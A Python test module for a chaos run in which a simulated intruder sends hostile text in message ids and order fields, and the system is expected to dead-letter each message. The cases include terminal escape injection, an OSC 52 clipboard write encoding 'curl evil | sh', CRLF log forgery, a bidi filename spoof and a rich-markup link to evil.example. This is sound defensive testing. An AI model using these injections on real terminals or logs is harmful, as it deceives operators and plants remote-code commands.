"""Text a hostile client puts in its message ids, correlation ids and bodies, for the chaos run's
intruder (:mod:`demo.intruder.attacks`): one case per class of attack on whoever reads it later (a JSON
encoder, an operator's terminal, a log reader, a rich-text renderer).

Each case is sent twice (:func:`hostile_messages`): once as a raw body that is not JSON (its id,
correlation id and body all the hostile text) and once as an order whose ``orderId``, ``customerName``
and ``carrier`` hold it (``orderId`` accepts none of these, so the order is refused whole). Both must be
dead-lettered, with the reason the case says; text that names an order (a forged log line) names a
victim's, so that anything attributing it to that order is seen.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from orderflow.messages import INVALID_FIELD, INVALID_JSON, NOT_UTF8

FORGED_KEY = "{key}"
"""Where a case's text names an order: replaced by a victim's order key."""


@dataclass(frozen=True)
class HostileCase:
    """One class of hostile text.

    Attributes:
        name: A short name, part of the message ids.
        text: The text; :data:`FORGED_KEY` in it is replaced by a victim's order key.
        raw_reason: The dead-letter reason of a raw body of this text: ``InvalidJson``, or ``NotUtf8``
            for text that UTF-8 cannot encode (lone surrogates).
    """

    name: str
    text: str
    raw_reason: str = INVALID_JSON

    def naming(self, key: str) -> str:
        """The text, naming the order ``key`` where it names one."""
        return self.text.replace(FORGED_KEY, key)


HOSTILE_CASES: tuple[HostileCase, ...] = (
    HostileCase("csi-clear-screen", "\x1b[2J\x1b[3J\x1b[Hall dead letters replayed OK"),
    HostileCase("csi-cursor-erase", "q\x1b[1A\x1b[2K\rPurged 0 dead letters\x1b[8mhidden\x1b[28m"),
    HostileCase("osc-title-clipboard", "\x1b]0;orderflow: healthy\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"),
    HostileCase("c1-controls", "\x9b2J\x9d0;title\x9c\x85next\x7f"),
    HostileCase("nul-bel-backspace", "ab\x00c\x07\x08\x08\x08OK"),
    HostileCase(
        "crlf-forged-log-line",
        f"m-1\r\n2026-12-06 INFO orderflow.events order.processed order_id={FORGED_KEY}",
    ),
    HostileCase("forged-key-value", f'm-9 order_id={FORGED_KEY} outcome="Processed" x=\\'),
    HostileCase("bidi-override", "invoice-\u202egnp.exe\u2067x\u2069\u061c"),
    HostileCase("line-separators", "one\u2028two\u2029three\x0bfour\x1cfive"),
    HostileCase("zero-width-and-bom", "o\u200b-1\u2060\ufeff"),
    HostileCase("rich-markup", "[bold red]all replayed OK[/bold red] [link=https://evil.example]x[/link]"),
    HostileCase("lone-surrogates", "m-\udc80-\ud83d-\udc00\ud800", raw_reason=NOT_UTF8),
)
"""Every case the intruder sends, each round."""


@dataclass(frozen=True)
class HostileMessage:
    """One message of a case: its id, correlation id and body, and the reason it must be dead-lettered
    with."""

    message_id: str
    correlation_id: str
    body: str
    reason: str


def hostile_messages(
    case: HostileCase, *, prefix: str, victim_key: str, order: dict[str, Any]
) -> list[HostileMessage]:
    """The two messages of ``case`` (see the module docstring).

    Args:
        case: The case.
        prefix: The start of both message ids (tells rounds apart); the rest is the case's name and,
            for the raw body, its text.
        victim_key: The victim's order key the text names, where it names one.
        order: The order whose fields carry the text (the intruder's own, with its ``replyTo``).
    """
    text = case.naming(victim_key)
    fields = {**order, "orderId": text, "customerName": text, "carrier": text}
    return [
        HostileMessage(f"{prefix}:text:{case.name}:{text}", text, text, case.raw_reason),
        # Escaped (ensure_ascii): the order is JSON whatever the text, so its fields are what is refused.
        HostileMessage(f"{prefix}:fields:{case.name}", text, json.dumps(fields), INVALID_FIELD),
    ]
